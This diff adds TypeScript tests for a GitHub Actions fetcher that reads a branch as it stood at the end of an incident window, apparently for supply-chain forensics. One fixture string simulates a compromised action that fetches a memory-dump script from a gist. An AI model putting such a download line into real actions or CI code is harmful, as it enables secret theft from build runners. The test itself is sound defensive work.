@@ -399,3 +399,87 @@ describe('GitHub component fetcher', () => {
     expect(fetcher.client.stats.notModified).toBe(1);
   });
 });
+
+describe('GitHub component fetcher: a branch in an incident window is read as of its end', () => {
+  const window = { start: Date.parse('2025-03-14T00:00:00Z'), end: Date.parse('2025-03-15T23:59:59Z') };
+  const files = new Map<string, string>();
+  const writer = { write: (ref: ComponentRef, path: string, text: string) => void files.set(`${ref.raw}//${path}`, text) };
+  const ref = (raw: string): ComponentRef => {
+    const [spec = '', at] = raw.split('@');
+    const [owner = '', repo = ''] = spec.split('/');
+    return { kind: 'gha-action', owner, repo, ...(at === undefined ? {} : { ref: at }), raw };
+  };
+  const BEFORE = 'runs:\n  using: composite\n  steps: []\n';
+  const IN_WINDOW = 'runs:\n  using: node20\n  main: dist/index.js\n';
+  const PAYLOAD = "fetch('https://gist.githubusercontent.com/x/memdump.py')\n";
+  const TODAY = 'runs:\n  using: composite\n  steps:\n    - run: echo fixed\n      shell: bash\n';
+  const TIMEOUT = 'Something went wrong while executing your query. This may be the result of a timeout, or it could be a GitHub bug.';
+
+  beforeEach(() => {
+    files.clear();
+    sim.addRepo({
+      full: 'acme/moving',
+      commits: [
+        { date: '2025-03-01T00:00:00Z', files: { 'action.yml': BEFORE } },
+        { date: '2025-03-14T16:00:00Z', files: { 'action.yml': IN_WINDOW, 'dist/index.js': PAYLOAD } },
+        { date: '2025-03-20T09:00:00Z', files: { 'action.yml': TODAY, 'dist/index.js': null } },
+      ],
+      refs: { release: 2, v2: 2 },
+      branches: ['release'],
+    });
+    sim.addRepo({ full: 'acme/stuck', commits: [{ date: '2025-03-01T00:00:00Z', files: { 'action.yml': BEFORE } }], historyError: TIMEOUT });
+    sim.addRepo({ full: 'acme/young', commits: [{ date: '2025-04-01T00:00:00Z', files: { 'action.yml': TODAY } }] });
+  });
+
+  it('a branch that changed after the window gives what it held at the window end, code files included, with the commit recorded', async () => {
+    const fetcher = createGitHubFetcher(env(), { window });
+    const at = sim.oid('acme/moving', 1);
+    expect(await fetcher.fetch(ref('acme/moving@release'), writer)).toEqual({
+      ok: true,
+      files: ['github/acme/moving@release/action.yml', 'github/acme/moving@release/dist/index.js'],
+      note: `acme/moving@release: branch release of acme/moving read as of 2025-03-15T23:59:59Z, the incident window's end (commit ${at.slice(0, 12)} of 2025-03-14T16:00:00Z)`,
+    });
+    expect(Object.fromEntries(files)).toEqual({
+      'acme/moving@release//action.yml': IN_WINDOW,
+      'acme/moving@release//dist/index.js': PAYLOAD,
+      [`acme/moving@release//${RESOLVED_COMMIT_FILE}`]: `${at}\n`,
+    });
+    // The ref and its history, the files at the older commit, the JavaScript action's main file.
+    expect(sim.calls.graphql).toBe(3);
+  });
+
+  it('a ref-less use reads the default branch as of the window end', async () => {
+    const fetcher = createGitHubFetcher(env(), { window });
+    const at = sim.oid('acme/moving', 1);
+    expect(await fetcher.fetch(ref('acme/moving'), writer)).toEqual({
+      ok: true,
+      files: ['github/acme/moving@HEAD/action.yml', 'github/acme/moving@HEAD/dist/index.js'],
+      note: `acme/moving: the default branch (main) of acme/moving read as of 2025-03-15T23:59:59Z, the incident window's end (commit ${at.slice(0, 12)} of 2025-03-14T16:00:00Z)`,
+    });
+    expect(files.get('acme/moving//action.yml')).toBe(IN_WINDOW);
+  });
+
+  it("without a window a branch is read at today's head, and a tag is read as it is, without a note", async () => {
+    expect(await createGitHubFetcher(env()).fetch(ref('acme/moving@release'), writer)).toEqual({ ok: true, files: ['github/acme/moving@release/action.yml'] });
+    expect(files.get('acme/moving@release//action.yml')).toBe(TODAY);
+    expect(files.get(`acme/moving@release//${RESOLVED_COMMIT_FILE}`)).toBe(`${sim.oid('acme/moving', 2)}\n`);
+    expect(await createGitHubFetcher(env(), { window }).fetch(ref('acme/moving@v2'), writer)).toEqual({ ok: true, files: ['github/acme/moving@v2/action.yml'] });
+    expect(files.get('acme/moving@v2//action.yml')).toBe(TODAY);
+  });
+
+  it("a history GitHub does not give, or no commit by the window's end, leaves the component unresolved with the reason", async () => {
+    const fetcher = createGitHubFetcher(env(), { window });
+    expect(await fetcher.fetch(ref('acme/stuck@main'), writer)).toEqual({
+      ok: false,
+      reason: `GitHub: the history of branch main of acme/stuck was not given (${TIMEOUT}); what it held in the incident window (to 2025-03-15T23:59:59Z) is not known`,
+    });
+    expect(await fetcher.fetch(ref('acme/young@main'), writer)).toEqual({
+      ok: false,
+      reason: "GitHub: branch main of acme/young has no commit at or before 2025-03-15T23:59:59Z (the incident window's end)",
+    });
+    expect(files.size).toBe(0);
+    // The simulated refusal is the one execution error; anything else would fail afterEach.
+    expect(sim.executionErrors).toEqual([`${TIMEOUT} at repository.branch.target.history`]);
+    sim.executionErrors.length = 0;
+  });
+});
